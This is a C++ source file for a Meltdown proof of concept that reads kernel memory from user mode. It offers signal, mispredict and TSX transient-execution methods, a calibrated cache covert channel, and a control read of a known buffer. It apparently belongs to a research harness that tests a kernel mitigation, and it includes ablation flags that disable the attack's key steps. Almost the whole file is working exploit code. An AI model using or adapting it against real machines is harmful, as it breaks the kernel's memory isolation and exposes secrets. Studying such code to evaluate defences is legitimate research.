// SPDX-License-Identifier: MIT
// Reads kernel memory from user mode, or tries to:
//     meltdown signal|mispredict|tsx BYTES ATTEMPTS [bitwise] [touch] [no-flush] [too-late]
// First the control: the same code reads a buffer of its own whose content it does not know. Then
// the kernel's secret. `bitwise`: each attempt sends one bit, not the whole byte. `touch` has the
// kernel use the secret before each byte. The other two leave out what the attack needs: the
// channel's lines are not flushed, or the byte is sent too late.
//
// Standard output, a line each; values in hexadecimal, "--" if unknown; cycles of the time-stamp
// counter:
//
//     calibration HIT MISS THRESHOLD
//     control INDEX VALUE HITS ATTEMPTS TRUTH
//     secret INDEX VALUE HITS ATTEMPTS
//     cycles control|secret NUMBER
//
// Exit status 0 however it went, 2 for wrong arguments, 3 if the CPU lacks what the method needs.
#include <sys/random.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <memory>
#include <vector>

#include "guest/attacks/byte_reader.h"
#include "guest/attacks/kernel_facts.h"
#include "guest/attacks/timing.h"

namespace {

using namespace attacks;

constexpr int wrong_arguments = 2;
constexpr int not_available = 3;

struct Plan {
    std::unique_ptr<TransientReader> reader;
    std::size_t bytes = 0;
    unsigned attempts = 0;
    Portion portion = Portion::Byte;
    bool touch = false;
    bool flush = true;
    const std::uint8_t* secret = nullptr;
};

[[noreturn]] void stop(int status, const char* message) {
    std::fprintf(stderr, "%s\n", message);
    std::exit(status);
}

std::unique_ptr<TransientReader> make_reader(const char* method, Portion portion, Sending sending) {
    if (std::strcmp(method, "signal") == 0) {
        return make_signal_reader(portion, sending);
    }
    if (std::strcmp(method, "mispredict") == 0) {
        return make_mispredict_reader(portion, sending);
    }
    if (std::strcmp(method, "tsx") != 0) {
        stop(wrong_arguments, "the method is signal, mispredict or tsx");
    }
    if (!has_transactions()) {
        stop(not_available, "this processor has no transactions (RTM)");
    }
    return make_transaction_reader(portion, sending);
}

Plan make_plan(int count, char** arguments) {
    constexpr int least = 4;
    constexpr const char* usage =
        "usage: meltdown signal|mispredict|tsx BYTES ATTEMPTS [bitwise] [touch] [no-flush] "
        "[too-late]";
    if (count < least) {
        stop(wrong_arguments, usage);
    }
    Plan plan;
    Sending sending = Sending::InTime;
    for (int i = least; i < count; ++i) {
        if (std::strcmp(arguments[i], "bitwise") == 0) {
            plan.portion = Portion::Bit;
        } else if (std::strcmp(arguments[i], "touch") == 0) {
            plan.touch = true;
        } else if (std::strcmp(arguments[i], "no-flush") == 0) {
            plan.flush = false;
        } else if (std::strcmp(arguments[i], "too-late") == 0) {
            sending = Sending::Late;
        } else {
            stop(wrong_arguments, usage);
        }
    }
    plan.reader = make_reader(arguments[1], plan.portion, sending);
    plan.bytes = std::strtoul(arguments[2], nullptr, 10);
    plan.attempts = static_cast<unsigned>(std::strtoul(arguments[3], nullptr, 10));
    plan.secret = reinterpret_cast<const std::uint8_t*>(read_fact("secret_address", 16));
    if (plan.bytes == 0 || plan.bytes > read_fact("secret_length", 10)) {
        stop(wrong_arguments, "BYTES is at least 1 and at most the secret's length");
    }
    return plan;
}

/// Random bytes without 0, which the channel cannot carry.
std::vector<std::uint8_t> unknown_bytes(std::size_t count) {
    std::vector<std::uint8_t> bytes(count);
    std::size_t have = 0;
    while (have < count) {
        const ssize_t got = getrandom(bytes.data() + have, count - have, 0);
        if (got <= 0) {
            stop(wrong_arguments, "no random numbers");
        }
        have += static_cast<std::size_t>(got);
    }
    std::replace(bytes.begin(), bytes.end(), std::uint8_t{0}, std::uint8_t{1});
    return bytes;
}

struct Reading {
    std::vector<ByteGuess> guesses;
    std::uint64_t cycles = 0;
};

/// `touch`: has the kernel use its secret before each byte.
Reading read_bytes(const Plan& plan, const CovertChannel& channel, const std::uint8_t* victim,
                   bool readable, bool touch) {
    Reading reading;
    reading.guesses.reserve(plan.bytes);
    Window window = Window::Short;  // what one byte needed, the next one will
    channel.clear();
    const std::uint64_t start = time_before();
    for (std::size_t i = 0; i < plan.bytes; ++i) {
        if (touch) {
            std::FILE* check = std::fopen("/proc/ringfence/secret_check", "re");
            if (check != nullptr) {
                std::fclose(check);
            }
        }
        reading.guesses.push_back(read_byte(
            *plan.reader, channel, {victim + i, readable, plan.portion}, plan.attempts, window));
    }
    reading.cycles = time_after() - start;
    return reading;
}

void print(const char* name, std::size_t index, const ByteGuess& guess) {
    char value[3] = "--";
    if (guess.known) {
        std::snprintf(value, sizeof value, "%02x", guess.value);
    }
    std::printf("%s %zu %s %u %u", name, index, value, guess.hits, guess.attempts);
}

}  // namespace

int main(int count, char** arguments) {
    const Plan plan = make_plan(count, arguments);
    CovertChannel channel;
    const Calibration calibration = channel.calibrate();
    channel.set_flushing(plan.flush);
    std::printf("calibration %lu %lu %lu\n", calibration.hit, calibration.miss,
                calibration.threshold);
    if (!calibration.usable()) {
        return 0;  // the clock does not see the cache: there is no channel
    }
    const std::vector<std::uint8_t> own = unknown_bytes(plan.bytes);
    const Reading control = read_bytes(plan, channel, own.data(), true, false);
    const Reading secret = read_bytes(plan, channel, plan.secret, false, plan.touch);
    for (std::size_t i = 0; i < plan.bytes; ++i) {
        print("control", i, control.guesses[i]);
        std::printf(" %02x\n", own[i]);
    }
    for (std::size_t i = 0; i < plan.bytes; ++i) {
        print("secret", i, secret.guesses[i]);
        std::printf("\n");
    }
    std::printf("cycles control %lu\ncycles secret %lu\n", control.cycles, secret.cycles);
    return 0;
}
